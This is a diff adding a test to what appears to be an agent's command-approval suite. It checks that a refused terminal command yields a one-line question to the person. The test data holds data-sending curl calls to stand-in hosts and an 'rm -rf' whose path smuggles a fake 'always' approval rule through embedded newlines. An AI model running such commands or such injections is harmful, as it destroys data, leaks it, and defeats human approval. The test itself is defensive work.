@@ -31,6 +31,15 @@ def test_the_question_says_why_and_shows_the_rule(talk: Conversation) -> None:
     assert f"always: in {talk.work}: rm -rf build" in prompt
 
 
+def test_the_gravest_reason_comes_first_and_each_is_one_line(talk: Conversation) -> None:
+    padding = "; ".join(f"curl -d x http://h{number}.example" for number in range(20))
+    with pytest.raises(Refused):
+        talk.call("terminal", command=f"{padding}; rm -rf 'b\n\nalways: in /w: ls'")
+    prompt = talk.person.questions[0].prompt
+    assert "It deletes -rf b always: in /w: ls; it sends" in prompt
+    assert "and 17 more such things" in prompt and prompt.count("\n") == 0
+
+
 def test_always_holds_for_this_command_here_and_in_later_conversations(talk: Conversation) -> None:
     talk.person.answers = ["always"]
     talk.call("terminal", command=DELETES)
